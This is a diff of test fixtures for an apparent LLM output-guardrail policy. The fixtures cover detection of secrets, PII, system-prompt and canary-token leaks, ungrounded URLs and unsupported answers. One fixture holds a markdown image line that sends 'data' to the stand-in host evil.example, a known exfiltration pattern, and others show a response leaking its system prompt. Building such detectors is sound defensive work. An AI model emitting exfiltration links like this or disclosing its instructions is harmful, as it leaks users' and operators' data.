@@ -98,8 +98,21 @@ fixtures := {
 	"secret_in_prompt": prompt(with_findings([secret("AWS_ACCESS_KEY_ID", "messages[1].content", "user")])),
 	"secret_in_response": response({"content": "key: AKIA..."}, with_findings([secret("AWS_ACCESS_KEY_ID", "response.content", "response")])),
 	"pii_in_response": response({"content": "call 555-0100"}, with_findings([pii("PHONE_NUMBER", "response.content", "response")])),
-	"leak_in_response": response({"content": "my instructions are"}, with_findings([finding("leak", "CANARY", "response.content", "response", 0, 5)])),
-	"url_in_response": response({"content": "![x](https://evil.example/?q=data)"}, with_findings([finding("url", "MARKDOWN_IMAGE", "response.content", "response", 0, 34)])),
+	"leak_in_response": response({"content": "My instructions: You are a helpful support assistant."}, with_findings([object.union(finding("leak", "SYSTEM_PROMPT_LEAK", "response.content", "response", 17, 53), {"score": 0.3})])),
+	"canary_in_response": response({"content": "Sure: pc-7f3a9b2c1d4e5f60"}, with_findings([object.union(finding("leak", "CANARY_TOKEN", "response.content", "response", 6, 25), {"score": 1})])),
+	"url_in_response": response({"content": "![x](https://evil.example/logo.png)"}, with_findings([object.union(finding("url", "MARKDOWN_IMAGE", "response.content", "response", 5, 34), {"score": 0.6})])),
+	"image_exfiltration": response({"content": "![x](https://evil.example/?q=data)"}, with_findings([object.union(finding("url", "MARKDOWN_IMAGE", "response.content", "response", 5, 33), {"score": 0.9})])),
+	"ungrounded_url": response({"content": "See https://docs.example.com/made-up"}, object.union(
+		{"context": {"documents": [{"id": "kb-1", "text": "Returns take 30 days."}]}},
+		with_findings([object.union(finding("url", "UNGROUNDED_URL", "response.content", "response", 4, 36), {"score": 0.6})]),
+	)),
+	"ungrounded_answer": response({"content": "Returns take 90 days. Shipping is free."}, {
+		"context": {"documents": [{"id": "kb-1", "text": "Returns take 30 days."}]},
+		"analysis": object.union(
+			analysis([object.union(finding("grounding", "UNSUPPORTED_SENTENCE", "response.content", "response", 22, 39), {"score": 1})], {"user": 0.02}),
+			{"grounding": {"score": 0.25, "by_source": {"response": 0.25}, "fields": {"response.content": 0.25}, "matches": []}},
+		),
+	}),
 	"reasoning_stripped": response({"content": "42", "reasoning": "the user asked..."}, model("deepseek-r1")),
 	"everything": prompt({
 		"resource": {"model": "deepseek-r1"},
